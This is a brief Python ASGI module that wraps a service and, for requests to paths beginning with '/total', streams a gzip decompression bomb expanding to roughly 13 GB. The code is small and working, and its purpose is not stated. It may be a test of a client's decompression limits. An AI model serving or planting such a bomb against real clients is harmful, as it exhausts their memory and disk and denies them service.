import zlib

from service import app as service

BLOCK = bytes(1 << 20)


def bomb():
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    yield packer.compress(BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
    for _ in range(200):
        yield again * 64


async def app(scope, receive, send):
    if scope["type"] != "http" or not scope["path"].startswith("/total"):
        return await service(scope, receive, send)
    await send({"type": "http.response.start", "status": 200, "headers": [(b"content-encoding", b"gzip")]})
    for part in bomb():
        await send({"type": "http.response.body", "body": part, "more_body": True})
    await send({"type": "http.response.body", "body": b""})
